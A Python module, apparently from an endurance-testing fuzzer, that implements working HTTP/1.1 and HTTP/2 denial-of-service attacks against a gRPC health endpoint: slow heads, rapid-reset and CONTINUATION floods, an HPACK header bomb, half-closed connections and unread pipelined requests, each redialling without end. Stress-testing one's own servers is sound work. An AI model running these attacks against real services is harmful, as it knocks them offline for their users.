"""Attacks on HTTP itself: heads that never end, calls that are cancelled, answers that aren't read. They need no token.

Each goes on until it is cancelled, and dials again when the server has closed its connection.
"""

import asyncio
import itertools
from collections.abc import Awaitable, Callable
from contextlib import suppress
from random import Random

from endurance.fuzzing import frames as h2
from endurance.fuzzing.connections import Connection, connected
from endurance.fuzzing.http1 import request
from endurance.fuzzing.malformed_http2 import continuation_flood, ping_flood, rapid_reset, settings_flood
from endurance.fuzzing.mutation import varint

CHECK = "/grpc.health.v1.Health/Check"

SLOW, FLOODING, HALF_CLOSED, UNREADING = 200, 4, 100, 20
"""Connections of each attack that are open at all times."""

DRIP_SECONDS = 1.0
"""Seconds between two bytes of a slow head."""

PAUSE_SECONDS = 0.05
"""Pause before a connection is dialled again."""

REFERENCES = 60_000
"""Times that one header of 3,000 bytes is named again, in one byte each, in a head that unpacks to 180 MB."""

PIPELINED = 1000
"""Requests that are sent at once, before any answer is read."""


async def slow_heads(target: str, _: str) -> None:
    """Heads that arrive byte by byte: half of them in HTTP/1.1, half as CONTINUATION frames."""
    kinds = itertools.cycle((True, False))

    async def drip(connection: Connection) -> None:
        _, writer = connection
        if next(kinds):
            writer.write(h2.greeting() + h2.headers_frame(h2.call_headers(CHECK), 1, flags=0))
            more = h2.frame(h2.CONTINUATION, 0, 1, b"\x00\x01a\x01b")
        else:
            writer.write(f"POST {CHECK} HTTP/1.1\r\nhost: localhost\r\nx: ".encode())
            more = b"y"
        while not writer.is_closing():
            writer.write(more)
            await writer.drain()
            await asyncio.sleep(DRIP_SECONDS)

    await _repeated(SLOW, drip, target)


async def floods(target: str, _: str) -> None:
    """Rapid resets, PINGs, SETTINGS and heads without an end, as fast as the server takes them."""
    rng, kinds = Random(0), itertools.cycle((rapid_reset, continuation_flood, ping_flood, settings_flood))

    async def flood(connection: Connection) -> None:
        reader, writer = connection
        reading = asyncio.create_task(_read_all(reader))
        try:
            writer.write(next(kinds)(rng))
            await writer.drain()
            await asyncio.wait([reading], timeout=DRIP_SECONDS)
        finally:
            reading.cancel()

    await _repeated(FLOODING, flood, target)


async def header_bombs(target: str, _: str) -> None:
    """Heads of 60 KB that unpack to 180 MB: one header, named again and again."""
    head = h2.headers_frame(h2.call_headers(CHECK), 1)[h2.HEADER_BYTES :]
    first = b"\x40\x01x" + _hpack_length(3000) + b"v" * 3000  # it enters the table, at its first place
    block = head + first + b"\xbe" * REFERENCES
    parts = [block[at : at + h2.LARGEST_FRAME] for at in range(0, len(block), h2.LARGEST_FRAME)]
    frames = [h2.frame(h2.HEADERS, h2.END_STREAM, 1, parts[0])]
    frames += [h2.frame(h2.CONTINUATION, 0, 1, part) for part in parts[1:-1]]
    bomb = h2.greeting() + b"".join([*frames, h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, parts[-1])])

    async def send(connection: Connection) -> None:
        reader, writer = connection
        writer.write(bomb)
        await _read_all(reader)

    await _repeated(FLOODING, send, target)


async def half_closed(target: str, _: str) -> None:
    """Connections that send half a request, or a whole one, and then close their own side only."""
    whole = request(CHECK, b"{}", {"content-type": "application/json"})
    opened = h2.greeting() + h2.headers_frame(h2.call_headers(CHECK), 1)
    sent = itertools.cycle((whole, whole[:-1], whole[:40], opened))

    async def close_one_side(connection: Connection) -> None:
        reader, writer = connection
        writer.write(next(sent))
        writer.write_eof()
        await _read_all(reader)

    await _repeated(HALF_CLOSED, close_one_side, target)


async def unread_pages(target: str, _: str) -> None:
    """Requests in one go, whose answers nobody reads."""
    page = request("/", b"", {"connection": "keep-alive"}, "GET")

    async def ask(connection: Connection) -> None:
        _, writer = connection
        writer.write(page * PIPELINED)
        while not writer.is_closing():
            await asyncio.sleep(DRIP_SECONDS)
            writer.write(page)  # where nothing is read, only a write shows that the server has closed the connection

    await _repeated(UNREADING, ask, target)


async def _read_all(reader: asyncio.StreamReader) -> None:
    while await reader.read(h2.LARGEST_FRAME):
        pass


def _hpack_length(size: int) -> bytes:
    """The length of a text as HPACK writes it: seven bits, and the rest as a number of protobuf's form."""
    return b"\x7f" + varint(size - 127)


async def _repeated(count: int, once: Callable[[Connection], Awaitable[None]], target: str) -> None:
    """So many connections at all times, on each of which `once` runs."""

    async def keep() -> None:
        while True:
            with suppress(OSError):
                async with connected(target) as connection:
                    await once(connection)
            await asyncio.sleep(PAUSE_SECONDS)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(keep())
